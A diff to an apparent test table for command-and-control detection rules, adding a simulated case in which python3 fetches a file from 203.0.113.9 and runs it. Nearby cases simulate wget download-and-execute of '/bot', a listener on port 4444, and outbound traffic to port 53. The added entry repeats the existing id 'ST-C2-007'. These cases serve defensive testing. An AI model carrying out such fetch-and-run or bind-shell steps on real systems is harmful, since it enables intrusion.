@@ -171,6 +171,8 @@ export const CASES: RuleCase[] = [
   { id: 'ST-C2-006', trigger: (s) => s.run('/usr/bin/wget', ['wget', 'http://203.0.113.9/bot']), benign: (s) => s.run('/usr/bin/wget', ['wget', '--version']) },
   { id: 'ST-C2-007', trigger: (s) => { const w = s.run('/usr/bin/wget', ['wget', '-O', '/tmp/bot', 'http://203.0.113.9/bot']); s.open(w, '/tmp/bot', O.w); s.run('/tmp/bot', ['/tmp/bot']); },
     benign: (s) => { s.run('/usr/bin/wget', ['wget', '--version']); s.run('/usr/bin/ls', ['ls']); } },
+  { id: 'ST-C2-007', trigger: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'get.py']); s.connect(py, '203.0.113.9', 80, 0); s.open(py, '/tmp/upd', O.w); s.run('/tmp/upd', ['/tmp/upd'], { ppid: py }); },
+    benign: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'get.py']); s.connect(py, '127.0.0.1', 8000, 0); s.open(py, '/tmp/upd', O.w); s.run('/tmp/upd', ['/tmp/upd'], { ppid: py }); } },
   { id: 'ST-C2-008', trigger: (s) => { const fd = s.socket(1); s.sys(1, 'bind', [fd, 0, 16], 0, { addr: { family: 'inet', address: '0.0.0.0', port: 4444 } }); s.sys(1, 'listen', [fd, 1], 0); },
     benign: (s) => { const fd = s.socket(1, 1, 1); s.sys(1, 'listen', [fd, 1], 0); } },
   { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '203.0.113.9', port: 53 } }); },
